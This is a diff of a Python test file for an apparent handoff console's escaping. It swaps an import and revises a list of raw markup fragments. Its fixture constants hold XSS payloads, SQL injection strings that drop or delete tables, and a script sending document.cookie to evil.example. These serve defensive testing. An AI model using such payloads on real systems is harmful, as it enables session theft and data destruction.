@@ -9,7 +9,7 @@ from markupsafe import escape
 
 from handoff.store import audit_entries, count_new, get_handoff, list_handoffs, status_history
 from handoff.transcripts import transcript
-from tests.console.conftest import add_conversation
+from tests.console.support import add_conversation
 
 HOSTILE_NAME = '<script>alert("name")</script> Robert\'); DROP TABLE handoffs;--'
 HOSTILE_SUMMARY = '<img src=x onerror=alert(1)> wants a booking " onmouseover="alert(2)'
@@ -18,7 +18,8 @@ HOSTILE_TOPIC = "'; DELETE FROM staff_users; --"
 HOSTILE_MESSAGE = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
 HOSTILE_NOTE = '<img src=x onerror="alert(4)"> called back; 1 OR 1=1; DROP TABLE handoff_notes;'
 HOSTILE_ASSIGNEE = "<b onclick=alert(5)>Jo</b>"
-RAW_MARKUP = ("<script", "<img", "<svg", "<b onclick", "onerror=alert", 'onmouseover="alert')
+# Markup that would be live if it reached the page unescaped (escaped text like "onerror=" is inert).
+RAW_MARKUP = ("<script", "<img", "<svg", "<b onclick", "<b>", "<i>", '" onmouseover="', '"><svg')
 
 
 def title_of(page: str) -> str:
